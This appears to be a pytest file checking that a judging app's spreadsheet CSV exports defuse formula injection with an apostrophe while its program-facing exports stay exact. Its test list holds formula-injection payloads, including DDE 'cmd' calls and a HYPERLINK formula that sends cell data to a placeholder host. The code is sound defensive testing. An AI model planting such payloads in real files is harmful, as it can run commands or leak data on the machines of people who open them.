"""Formulas in what workers type: exact in the formats for programs, harmless in the one for spreadsheets."""

import csv
import io
import json
from decimal import Decimal
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from django.core.management import call_command
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from judging.archive.catalogue import EXPORTS, export_chunks
from judging.core.formats.export_table import Table
from judging.core.formats.spreadsheets import MARK, harmless
from judging.core.formats.texts import csv_lines, file_name, spreadsheet_lines
from judging.core.published.table import Column
from judging.models import Judgment, PlatformIdentity, Study
from judging.payments.reading import read_payments
from tests.archive.exports.conftest import add_grades

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"See")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    '"=1+1"; =2',
    "−5 is not a hyphen",
]
RUN = tuple("=+-@\t\r\n＝＋－＠")
NUMBERS = ["-5", "+3", "-0.25", "-1e-7", "+1.5E+10"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(MARK), newline=""), strict=True))


@pytest.mark.parametrize("text", ATTACKS[:10])
def test_an_apostrophe_stands_before_what_would_be_run(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("cell", [*NUMBERS, -5, -0.5, Decimal("-1.20"), None, True, "", "a=b", *ATTACKS[10:]])
def test_numbers_and_other_text_are_not_touched(cell: Any) -> None:
    assert harmless(cell) == cell
    assert type(harmless(cell)) is type(cell)


@given(st.text())
def test_no_text_begins_a_formula_and_the_apostrophe_alone_is_added(text: str) -> None:
    result = harmless(text)
    assert result in (text, f"'{text}")
    if result.startswith(RUN):
        float(result)


def test_the_same_rows_as_csv_and_for_spreadsheets() -> None:
    columns = ["=name", "n", "text"]
    rows = [[text, -1.5, "plain"] for text in ATTACKS]
    table = Table([Column("", name=name) for name in columns], rows)
    exact = cells("".join(csv_lines(table)))
    safe = "".join(spreadsheet_lines(table))
    assert exact == [columns, *[[text, "-1.5", "plain"] for text in ATTACKS]]
    assert safe.startswith("\ufeff'=name,n,text\n")
    assert cells(safe) == [[harmless(cell) for cell in row] for row in exact[:1]] + [
        [harmless(text), "-1.5", "plain"] for text in ATTACKS
    ]


def planted(study: Study) -> set[str]:
    """Attacks in everything that somebody else types: reasons, magnitudes as typed, ids of platforms."""
    judgments = list(Judgment.objects.order_by("pk")[: len(ATTACKS)])
    for judgment, text in zip(judgments, ATTACKS, strict=True):
        judgment.justification = judgment.raw_input = text
    Judgment.objects.bulk_update(judgments, ["justification", "raw_input"])
    add_grades(study, "=1+1", place=0)
    return set(ATTACKS)


def test_no_cell_of_any_export_for_spreadsheets_is_run(study: Study) -> None:
    planted(study)
    for what in (name for name, table in EXPORTS.items() if "spreadsheet" in table.formats):
        found = cells(b"".join(export_chunks(study, what, "spreadsheet")).decode())
        assert found
        for row in found:
            for cell in row:
                assert not cell.startswith(RUN) or float(cell) is not None
        exact = cells(b"".join(export_chunks(study, what, "csv")).decode())
        assert [[harmless(cell) for cell in row] for row in exact] == found
        assert file_name(study, what, "spreadsheet") == f"study-{what}.spreadsheet.csv"


def test_the_formats_for_programs_are_exact(study: Study, tmp_path: Path) -> None:
    attacks = planted(study)

    def of(form: str) -> bytes:
        return b"".join(export_chunks(study, "judgments", form))

    rows = list(csv.DictReader(io.StringIO(of("csv").decode(), newline=""), strict=True))
    assert {row["comment"] for row in rows} >= attacks
    assert {row["raw_input"] for row in rows} >= attacks
    assert {json.loads(line)["comment"] for line in of("jsonl").decode().split("\n") if line} >= attacks
    assert set(pl.read_parquet(io.BytesIO(of("parquet")))["comment"]) >= attacks


def test_payments_for_spreadsheets_can_be_handed_in_again(study: Study, tmp_path: Path) -> None:
    for worker in study.participations.all():
        PlatformIdentity.objects.create(participation=worker, study=study, platform_id=f"=cmd|{worker.pk}")
    path = tmp_path / "payments.csv"
    call_command("export", "study", "--what", "payments", "--format", "spreadsheet", "-o", str(path))
    text = path.read_text()
    assert "'=cmd|" in text
    assert ",=cmd|" not in text
    assert json.loads(path.with_name("payments.csv.manifest.json").read_text())["format"] == "spreadsheet"
    with path.open("rb") as file:
        assert len(read_payments("payments.csv", file)) == 6


def test_the_pages_say_which_is_which(study: Study, console: Client) -> None:
    page = console.get("/console/studies/study/jobs/").content.decode()
    assert "export/judgments.spreadsheet" in page
    answer = console.get("/console/studies/study/export/judgments.spreadsheet")
    assert 'filename="study-judgments.spreadsheet.csv"' in answer["Content-Disposition"]
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert b"".join(answer.streaming_content).decode().startswith(f"{MARK}topic_id,")
